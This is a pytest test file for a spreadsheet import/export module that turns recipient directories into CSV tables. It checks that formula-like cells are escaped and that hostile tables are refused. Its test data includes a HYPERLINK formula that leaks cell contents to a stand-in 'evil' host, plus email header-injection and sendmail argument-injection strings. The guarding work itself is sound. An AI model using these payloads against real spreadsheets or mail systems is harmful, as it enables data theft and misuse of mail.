"""Tables become directories and directories tables, and no spreadsheet runs what a cell says."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from urgent_appeals.errors import ImportRefused
from urgent_appeals.workspace.exchange.table import guarded, read_table, unguarded, write_table
from urgent_appeals.workspace.yaml_text import read_yaml

RECIPIENTS = Path(__file__).parents[2] / "recipients"


def test_a_directory_is_the_same_after_the_journey_as_far_as_the_columns_go() -> None:
    directory: Any = read_yaml((RECIPIENTS / "arlandia.yaml").read_bytes(), "x").data
    table = write_table(directory)
    imported = read_table(table.encode())
    assert list(imported.offices) == list(directory["offices"])
    assert imported.offices["president"]["name"] == directory["offices"]["president"]["name"]
    assert [holder["from"] for holder in imported.offices["president"]["holders"]] == ["2018-05-01", "2026-05-01"]
    assert write_table({"offices": imported.offices}) == table


def test_the_file_begins_with_what_tells_spreadsheets_its_encoding() -> None:
    table = write_table({"offices": {"a": {"name": "Ж"}}})
    assert table == "\ufeffoffice,name\r\na,Ж\r\n"


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+1", "-2+3", "\t=1", "\r=1", "\n=1", "\uff1d1", "'=1"],
)
def test_a_cell_that_begins_like_a_formula_is_guarded_and_comes_back(cell: str) -> None:
    assert guarded(cell) == "'" + cell
    assert unguarded(guarded(cell)) == cell


@given(st.text(max_size=8))
def test_every_cell_comes_back_from_behind_its_guard(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell


def test_a_formula_in_a_directory_is_text_in_the_table_and_text_again_in_the_directory() -> None:
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    table = write_table({"offices": {"a": {"name": formula, "contacts": [{"kind": "fax", "printed": "+999 1"}]}}})
    rows = list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline="")))
    assert rows[1] == ["a", "'" + formula, "'+999 1"]
    office = read_table(table.encode()).offices["a"]
    assert office["name"] == formula
    assert office["contacts"] == [{"kind": "fax", "printed": "+999 1"}]


def test_a_table_with_semicolons_and_words_in_languages_is_read() -> None:
    imported = read_table("Office;name:en;name:ru;email\na;Judge;Судья;x@y.example\n".encode())
    assert imported.offices == {"a": {"name": {"en": "Judge", "ru": "Судья"}, "email": "x@y.example"}}


@pytest.mark.parametrize(
    "address", ['"a@b.org\r\nRCPT TO:<x@y.z>"', '"a@b.org, spy@evil.example"', "-oQ/tmp@x.org", "minister@gоv.kz"]
)
def test_an_address_that_could_reach_another_is_left_out(address: str) -> None:
    imported = read_table(f"office,email\r\na,{address}\r\n".encode())
    assert "a@b.org, spy@evil.example" not in str(imported.offices)
    assert imported.left_out


@pytest.mark.parametrize(
    ("refused", "words"),
    [
        pytest.param(b"office,secret\na,b\n", "a column 'secret'", id="unknown column"),
        pytest.param(b"office,email:en\na,b\n", "a column 'email:en'", id="language where none is"),
        pytest.param(b"office,office\na,b\n", "twice", id="a column twice"),
        pytest.param(b"note\na\n", "no column office or name", id="no office"),
        pytest.param(b"office\na,b\n", "row 2", id="too many cells"),
        pytest.param(b'office\n"a\n', "not CSV", id="open quotation mark"),
        pytest.param(b"\xff\xfeo", "UTF-8", id="UTF-16"),
        pytest.param(b"office\na\x00b\n", "control", id="NUL"),
        pytest.param(b"office\n" + b"".join(b"a%d\n" % n for n in range(6000)), "more than 5000", id="too many"),
    ],
)
def test_a_hostile_table_is_refused(refused: bytes, words: str) -> None:
    with pytest.raises(ImportRefused, match=words):
        read_table(refused)
